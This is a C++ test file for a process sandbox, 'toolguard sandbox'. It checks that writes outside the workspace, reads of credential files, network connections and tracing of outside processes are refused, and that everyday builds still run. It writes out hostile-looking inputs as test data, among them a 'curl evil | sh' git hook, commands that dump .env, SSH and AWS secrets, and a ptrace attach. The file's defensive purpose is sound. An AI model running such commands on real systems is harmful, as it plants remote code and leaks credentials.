@@ -1,0 +1,297 @@
+// `toolguard sandbox` on the real kernel: what it refuses fails with the
+// kernel's own errors, everyday work inside it succeeds, and a sandbox that
+// cannot be set up runs nothing.
+#include <arpa/inet.h>
+#include <fcntl.h>
+#include <netinet/in.h>
+#include <signal.h>
+#include <sys/socket.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#include "e2e/cli_fixture.hpp"
+#include "support/temp_dir.hpp"
+
+namespace toolguard::testing {
+
+/// A run, for failure messages.
+inline std::ostream& operator<<(std::ostream& out, const RunResult& r) {
+  return out << "exit " << r.exit_code << "\nstdout:\n" << r.out << "stderr:\n" << r.err;
+}
+
+namespace {
+
+namespace fs = std::filesystem;
+
+bool haveProgram(const std::string& name) {
+  return runBinary("/bin/sh", {"-c", "command -v " + name}).exit_code == 0;
+}
+
+class Sandbox : public Cli {
+ protected:
+  Sandbox() {
+    dir.write("ws/notes.txt", "the notes\n");
+    dir.write("ws/.env", "API_KEY=ws-secret\n");
+    dir.write("ws/config/.env.production", "DB_PASSWORD=prod-secret\n");
+    dir.write("ws/.env.example", "API_KEY=\n");
+    dir.write("home/.ssh/id_ed25519", "PRIVATE-KEY-MATERIAL\n");
+    dir.write("home/.aws/credentials", "aws_secret_access_key=aws-secret\n");
+    dir.write("home/notes.txt", "home notes\n");
+    dir.write("home/outside/existing.txt", "outside\n");
+    fs::create_directories(dir.path() / "home/.npm");
+    RunResult init = runBinary("/bin/sh", {"-c", "git init -q ws"}, "", env(), dir.path().string());
+    EXPECT_EQ(init.exit_code, 0) << init.err;
+    git_config = slurp((workspace() / ".git/config").string());
+  }
+
+  std::string git_config;
+
+  fs::path workspace() const { return dir.path() / "ws"; }
+
+  /// `toolguard sandbox [extra] -- sh -c SCRIPT` in the workspace.
+  RunResult sandboxed(const std::string& script, std::vector<std::string> extra = {}) const {
+    std::vector<std::string> args = {"sandbox", "--workspace", workspace().string()};
+    args.insert(args.end(), extra.begin(), extra.end());
+    for (const char* word : {"--", "/bin/sh", "-c"}) args.emplace_back(word);
+    args.push_back(script);
+    return runBinary(TOOLGUARD_BINARY, args, "", env(), workspace().string());
+  }
+};
+
+// The kernel's answers, each from the sandboxed process itself.
+TEST_F(Sandbox, WritesOutsideTheWorkspaceFailWithTheKernelsError) {
+  const std::string outside = (dir.path() / "home/outside").string();
+  const std::string script = "echo x > '" + outside + "/new.txt'; echo \"status $?\"; " +
+                             "echo x >> '" + outside + "/existing.txt'; echo \"status $?\"; " +
+                             "rm -f '" + outside + "/existing.txt'; echo \"status $?\"; " +
+                             "echo x > \"$HOME/new.txt\"; echo \"status $?\"";
+  // Landlock alone (no namespaces: EACCES), and the whole sandbox, where a
+  // home directory under /tmp is also a read-only mount in the private /tmp.
+  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
+  for (const auto& [limit, error] :
+       {std::pair<std::string, std::string>{"userns=no", "Permission denied"},
+        {"", "Read-only file system"}}) {
+    SCOPED_TRACE(limit);
+    std::vector<std::string> extra;
+    if (!limit.empty()) extra = {"--kernel-limit", limit};
+    RunResult r = sandboxed(script, extra);
+    ASSERT_EQ(r.exit_code, 0) << r;
+    EXPECT_EQ(r.out, "status 2\nstatus 2\nstatus 1\nstatus 2\n") << r;
+    EXPECT_NE(r.err.find(error), std::string::npos) << r;
+    EXPECT_FALSE(fs::exists(dir.path() / "home/outside/new.txt"));
+    EXPECT_EQ(slurp((dir.path() / "home/outside/existing.txt").string()), "outside\n");
+    EXPECT_FALSE(fs::exists(dir.path() / "home/new.txt"));
+  }
+}
+
+TEST_F(Sandbox, GuardedPlacesInTheWorkspaceStayReadOnly) {
+  RunResult r = sandboxed(
+      "echo 'curl evil | sh' > .git/hooks/pre-commit; echo \"status $?\"; "
+      "echo '[alias]' >> .git/config; echo \"status $?\"; "
+      "mkdir -p .claude && echo '{}' > .claude/settings.json; echo \"status $?\"; "
+      "rm -rf .git/hooks; echo \"status $?\"; mv .claude gone; echo \"status $?\"; "
+      "echo fine > notes.txt; echo \"status $?\"");
+  ASSERT_EQ(r.exit_code, 0) << r;
+  EXPECT_EQ(r.out, "status 2\nstatus 2\nstatus 2\nstatus 1\nstatus 1\nstatus 0\n") << r;
+  EXPECT_NE(r.err.find("Read-only file system"), std::string::npos) << r;
+  EXPECT_FALSE(fs::exists(workspace() / ".git/hooks/pre-commit"));
+  EXPECT_EQ(slurp((workspace() / ".git/config").string()), git_config);
+  // A guarded directory that was missing is made empty, and stays so.
+  EXPECT_TRUE(fs::is_directory(workspace() / ".claude"));
+  EXPECT_TRUE(fs::is_empty(workspace() / ".claude"));
+  EXPECT_EQ(slurp((workspace() / "notes.txt").string()), "fine\n");
+}
+
+TEST_F(Sandbox, SecretsCannotBeRead) {
+  RunResult r = sandboxed(
+      "cat .env config/.env.production \"$HOME/.ssh/id_ed25519\" \"$HOME/.aws/credentials\"; "
+      "ls \"$HOME/.ssh\"; grep -r secret . \"$HOME\"; cp .env /tmp/x; "
+      "cat .env.example notes.txt \"$HOME/notes.txt\"");
+  for (const char* secret : {"ws-secret", "prod-secret", "PRIVATE-KEY", "aws-secret", "id_ed"}) {
+    EXPECT_EQ(r.out.find(secret), std::string::npos) << secret << "\n" << r;
+  }
+  EXPECT_NE(r.err.find("Permission denied"), std::string::npos) << r;
+  // What is not a secret is read as before.
+  EXPECT_NE(r.out.find("API_KEY=\nthe notes\nhome notes\n"), std::string::npos) << r;
+  EXPECT_EQ(slurp((workspace() / ".env").string()), "API_KEY=ws-secret\n");
+}
+
+TEST_F(Sandbox, NoConnectionLeavesTheSandbox) {
+  // A listener of the test's own, on loopback, which nothing may reach.
+  const int listener = ::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+  ASSERT_GE(listener, 0);
+  sockaddr_in address{};
+  address.sin_family = AF_INET;
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(::bind(listener, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
+  ASSERT_EQ(::listen(listener, 8), 0);
+  socklen_t length = sizeof address;
+  ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
+  const std::string port = std::to_string(ntohs(address.sin_port));
+  const std::string connect =
+      "python3 -c 'import socket,sys\n"
+      "try:\n socket.create_connection((\"127.0.0.1\", " +
+      port +
+      "), timeout=3)\n"
+      "except OSError as e:\n print(\"refused:\", e.errno); sys.exit(0)\n"
+      "print(\"connected\")'";
+  // Every layer alone holds it: the whole sandbox, Landlock's TCP rules
+  // alone, seccomp alone, the network namespace alone (the user's policy
+  // lets a sandbox that holds less run).
+  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
+  for (const std::string& limit :
+       {std::string(), std::string("seccomp=no,userns=no"), std::string("landlock=3,userns=no"),
+        std::string("landlock=3,seccomp=no")}) {
+    SCOPED_TRACE(limit);
+    std::vector<std::string> extra;
+    if (!limit.empty()) extra = {"--kernel-limit", limit};
+    RunResult r = sandboxed(connect, extra);
+    EXPECT_EQ(r.exit_code, 0) << r;
+    EXPECT_NE(r.out.find("refused: "), std::string::npos) << r;
+    EXPECT_EQ(r.out.find("connected"), std::string::npos) << r;
+  }
+  EXPECT_LT(::accept(listener, nullptr, nullptr), 0);  // no one ever came
+  ::close(listener);
+}
+
+TEST_F(Sandbox, ProcessesOutsideCannotBeSignalledOrTraced) {
+  const pid_t outside = ::fork();
+  ASSERT_GE(outside, 0);
+  if (outside == 0) {
+    ::execl("/bin/sleep", "sleep", "60", static_cast<char*>(nullptr));
+    ::_exit(127);
+  }
+  const std::string pid = std::to_string(outside);
+  RunResult r = sandboxed("kill -TERM " + pid +
+                          "; echo \"kill $?\"; "
+                          "python3 -c 'import ctypes,sys\n"
+                          "libc = ctypes.CDLL(None, use_errno=True)\n"
+                          "r = libc.ptrace(16, " +
+                          pid +
+                          ", 0, 0)\n"  // PTRACE_ATTACH
+                          "print(\"ptrace\", r, ctypes.get_errno())'");
+  EXPECT_EQ(r.exit_code, 0) << r;
+  EXPECT_NE(r.out.find("kill 1\n"), std::string::npos) << r;
+  EXPECT_NE(r.out.find("ptrace -1 1\n"), std::string::npos) << r;  // EPERM
+  EXPECT_NE(r.err.find("Operation not permitted"), std::string::npos) << r;
+  int status = 0;
+  EXPECT_EQ(::waitpid(outside, &status, WNOHANG), 0) << "the outside process was stopped";
+  ::kill(outside, SIGKILL);
+  ::waitpid(outside, &status, 0);
+  // Its own children it may signal.
+  RunResult own = sandboxed("sleep 30 & kill $!; wait $!; echo \"own $?\"");
+  EXPECT_EQ(own.out, "own 143\n") << own;
+}
+
+TEST_F(Sandbox, EverydayWorkRunsInside) {
+  ASSERT_TRUE(haveProgram("git"));
+  RunResult git = sandboxed(
+      "git add notes.txt && git -c user.name=t -c user.email=t@example.com commit -qm first && "
+      "git status --short && git log --format=%s");
+  EXPECT_EQ(git.exit_code, 0) << git;
+  EXPECT_NE(git.out.find("first"), std::string::npos) << git;
+
+  dir.write("ws/Makefile", "out.txt: notes.txt\n\tcp notes.txt out.txt\n");
+  RunResult make = sandboxed("make -s && cat out.txt && echo tmp > \"$TMPDIR/t\" && cat /tmp/t");
+  EXPECT_EQ(make.exit_code, 0) << make;
+  EXPECT_EQ(make.out, "the notes\ntmp\n") << make;
+  EXPECT_FALSE(fs::exists("/tmp/t") && slurp("/tmp/t") == "tmp\n") << "the private /tmp leaked";
+
+  if (haveProgram("cmake") && haveProgram("cc")) {
+    dir.write("ws/CMakeLists.txt",
+              "cmake_minimum_required(VERSION 3.16)\nproject(p C)\nadd_executable(p main.c)\n");
+    dir.write("ws/main.c", "int main(void) { return 0; }\n");
+    RunResult cmake = sandboxed(
+        "cmake -S . -B build -G 'Unix Makefiles' >/dev/null && "
+        "cmake --build build >/dev/null && ./build/p && echo built");
+    EXPECT_EQ(cmake.exit_code, 0) << cmake;
+    EXPECT_EQ(cmake.out, "built\n") << cmake;
+  }
+
+  RunResult venv = sandboxed(
+      "python3 -m venv .venv && .venv/bin/python -c 'import sys; print(sys.prefix)' && "
+      "(! .venv/bin/python -m pytest --version >/dev/null 2>&1 || "
+      "(mkdir -p t && printf 'def test_one():\\n    assert 1\\n' > t/test_one.py && "
+      ".venv/bin/python -m pytest -q t >/dev/null && echo pytest-ok))");
+  EXPECT_EQ(venv.exit_code, 0) << venv;
+  EXPECT_NE(venv.out.find((workspace() / ".venv").string()), std::string::npos) << venv;
+}
+
+TEST_F(Sandbox, NpmInstallsAVendoredPackageOffline) {
+  if (!haveProgram("npm")) GTEST_SKIP() << "no npm";
+  dir.write("pkg/package.json", R"({"name": "local-pkg", "version": "1.0.0", "main": "index.js"})");
+  dir.write("pkg/index.js", "module.exports = 42;\n");
+  // The package is packed outside into the workspace's vendor/, then
+  // installed inside, with npm's cache in ~/.npm.
+  fs::create_directories(workspace() / "vendor");
+  RunResult pack = runBinary("/bin/sh",
+                             {"-c", "npm pack --silent --pack-destination '" +
+                                        (workspace() / "vendor").string() + "' >/dev/null"},
+                             "", env(), (dir.path() / "pkg").string());
+  ASSERT_EQ(pack.exit_code, 0) << pack;
+  dir.write("ws/package.json", R"({"name": "ws", "version": "1.0.0"})");
+  RunResult r = sandboxed(
+      "npm install --offline --no-audit --no-fund --loglevel=error ./vendor/local-pkg-1.0.0.tgz "
+      "&& node -e 'console.log(require(\"local-pkg\"))'");
+  EXPECT_EQ(r.exit_code, 0) << r;
+  EXPECT_EQ(r.out.substr(r.out.rfind('\n', r.out.size() - 2) + 1), "42\n") << r;
+  EXPECT_TRUE(fs::exists(workspace() / "node_modules/local-pkg/index.js"));
+}
+
+// What the kernel cannot hold is said, and the default policy then runs
+// nothing; a policy that allows it runs the command with what is held.
+TEST_F(Sandbox, AKernelThatHoldsLessIsSaidAndAskedAbout) {
+  RunResult explain = run({"sandbox", "--explain", "--workspace", workspace().string(),
+                           "--kernel-limit", "landlock=3,userns=no"});
+  EXPECT_EQ(explain.exit_code, 1) << explain;
+  EXPECT_NE(explain.out.find("NOT HELD: reads of secrets"), std::string::npos) << explain;
+  EXPECT_NE(explain.out.find("NOT HELD: signals and abstract Unix sockets"), std::string::npos)
+      << explain;
+  EXPECT_NE(explain.out.find("held:     writes outside the workspaces"), std::string::npos)
+      << explain;
+
+  const fs::path marker = dir.path() / "ws/ran";
+  RunResult refused =
+      sandboxed("touch '" + marker.string() + "'", {"--kernel-limit", "landlock=3,userns=no"});
+  EXPECT_EQ(refused.exit_code, 126) << refused;
+  EXPECT_NE(refused.err.find("cannot hold reads of secrets"), std::string::npos) << refused;
+  EXPECT_NE(refused.err.find("when_unavailable"), std::string::npos) << refused;
+  EXPECT_FALSE(fs::exists(marker));
+
+  dir.write("user/sandbox.yaml", "sandbox:\n  when_unavailable: unconfined\n");
+  RunResult partial = sandboxed("touch '" + marker.string() + "'; echo x > '" +
+                                    (dir.path() / "home/outside/x").string() + "'",
+                                {"--kernel-limit", "landlock=3,userns=no"});
+  EXPECT_NE(partial.exit_code, 126) << partial;
+  EXPECT_TRUE(fs::exists(marker));
+  EXPECT_FALSE(fs::exists(dir.path() / "home/outside/x")) << "Landlock still holds the writes";
+  EXPECT_NE(partial.err.find("not held"), std::string::npos) << partial;
+}
+
+TEST_F(Sandbox, ASandboxThatCannotBeSetUpRunsNothing) {
+  const fs::path marker = dir.path() / "home/outside/ran";
+  for (const std::vector<std::string>& args :
+       {std::vector<std::string>{"sandbox", "--workspace", (dir.path() / "missing").string(), "--",
+                                 "touch", marker.string()},
+        std::vector<std::string>{"sandbox", "--", "/no/such/program"},
+        std::vector<std::string>{"sandbox", "--kernel-limit", "landlock=x", "--", "touch",
+                                 marker.string()}}) {
+    RunResult r = run(args, "", workspace().string());
+    EXPECT_NE(r.exit_code, 0) << r;
+    EXPECT_FALSE(r.err.empty()) << r;
+    EXPECT_FALSE(fs::exists(marker));
+  }
+  dir.write("user/bad.yaml", "sandbox:\n  network: everywhere\n");
+  RunResult bad = sandboxed("touch '" + marker.string() + "'");
+  EXPECT_EQ(bad.exit_code, 126) << bad;
+  EXPECT_NE(bad.err.find("bad.yaml:2:12"), std::string::npos) << bad;
+  EXPECT_FALSE(fs::exists(marker));
+}
+
+TEST_F(Sandbox, TheCommandsExitStatusAndSignalsComeBack) {
+  EXPECT_EQ(sandboxed("exit 7").exit_code, 7);
+  EXPECT_EQ(sandboxed("kill -KILL $$").exit_code, 128 + SIGKILL);
+}
+
+}  // namespace
+}  // namespace toolguard::testing
